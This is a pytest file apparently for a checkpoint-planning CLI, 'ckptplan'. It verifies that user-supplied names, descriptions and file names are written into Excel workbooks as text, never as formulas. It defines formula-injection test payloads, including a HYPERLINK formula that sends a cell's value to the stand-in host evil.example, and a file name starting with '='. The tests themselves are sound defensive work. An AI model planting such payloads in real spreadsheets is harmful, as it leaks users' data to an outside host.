"""No text a user controls is ever written into a workbook as a formula (issue 16, formula injection)."""

from __future__ import annotations

import shutil

from openpyxl import load_workbook
from typer.testing import CliRunner

from ckptplan import files, workbook
from ckptplan.cli import app
from ckptplan.engine.designs import Design
from ckptplan.workbook.recalc import recalculate, soffice

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?"&Inputs!B6, "Click")'
HOSTILE = {"name": EVIL, "description": "=1+1", "source": "@SUM(1)", "currency": "=1+1"}


def _formulas(path):
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _texts(path):
    wb = load_workbook(path)
    return {(ws.title, c.coordinate): c.value for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "s"}


def test_hostile_scenario_text_and_design_names_stay_text(tmp_path):
    base = files.load_scenario("seed")
    hostile = base.replace(**HOSTILE)
    designs = (Design("=1+2", times={"checkpoint_stall_min": 0.5}),)
    kept = {"Optimizer state (moments, step counts)": ("present", "=HYPERLINK(\"http://evil.example\",\"proof\")")}
    good = workbook.write_workbook(tmp_path / "good.xlsx", base, designs=(Design("x", times={"checkpoint_stall_min": 0.5}),))
    workbook.write_workbook(tmp_path / "evil.xlsx", hostile, designs=designs, readiness=kept)
    evil_formulas = _formulas(tmp_path / "evil.xlsx")
    assert not [f for f in evil_formulas if "evil" in f[2] or f[2] in ("=1+1", "=1+2")]
    assert len(evil_formulas) == len(_formulas(tmp_path / "good.xlsx")) and good
    texts = _texts(tmp_path / "evil.xlsx")
    assert EVIL in texts.values() and "=1+1" in texts.values() and "=1+2" in texts.values()
    if soffice() is not None:  # the text cells recalculate as text, the numbers as before
        evil, plain = recalculate([tmp_path / "evil.xlsx", tmp_path / "good.xlsx"], tmp_path / "out")
        a, b = load_workbook(evil, data_only=True)["Plan"], load_workbook(plain, data_only=True)["Plan"]
        for r in range(5, 40):
            assert a.cell(row=r, column=2).value == b.cell(row=r, column=2).value


def test_cli_workbook_and_from_with_a_hostile_file_name(tmp_path):
    toml = tmp_path / "hostile.toml"
    toml.write_text("[scenario]\n" + "".join(f"{k} = {v!r}\n".replace("'", '"') if k != "name" else
                                               f"name = '{v}'\n" for k, v in HOSTILE.items())
                    + "checkpoint_stall_min = 2\nnodes = 16\nnode_mtbf_h = 5000\nuseful_training_h = 100\n"
                      "price_per_gpu_hour = 2\n")
    out = tmp_path / "plan.xlsx"
    res = runner.invoke(app, ["workbook", "--scenario", str(toml), "-o", str(out), "--no-deadline"])
    assert res.exit_code == 0, res.output
    assert not [f for f in _formulas(out) if "evil" in f[2] or f[2] == "=1+1"]
    # --from a workbook whose file name starts with "=" and whose name cell is empty
    odd = tmp_path / "=evil()+1.xlsx"
    shutil.copy(out, odd)
    wb = load_workbook(odd)
    wb["Inputs"][wb.defined_names["scenario_name"].attr_text.split("!")[1].replace("$", "")] = None
    wb.save(odd)
    again = tmp_path / "again.xlsx"
    res = runner.invoke(app, ["workbook", "--from", str(odd), "-o", str(again), "--no-deadline"])
    assert res.exit_code == 0, res.output
    assert not [f for f in _formulas(again) if "evil" in f[2]]
    assert "=evil()+1" in _texts(again).values()


def test_excel_setup_with_a_hostile_template_writes_text(tmp_path):
    toml = tmp_path / "hostile.toml"
    toml.write_text(f"[scenario]\nname = '{EVIL}'\ncurrency = '=1+1'\ncheckpoint_stall_min = 2\nnodes = 16\n"
                    "node_mtbf_h = 5000\nuseful_training_h = 100\nprice_per_gpu_hour = 2\n")
    folder = tmp_path / "addin"
    res = runner.invoke(app, ["excel-setup", str(folder), "-t", str(toml)])
    assert res.exit_code == 0, res.output
    book = next(folder.glob("*.xlsx"))
    assert not [f for f in _formulas(book) if "evil" in f[2] or f[2] == "=1+1"]
    assert EVIL in _texts(book).values()
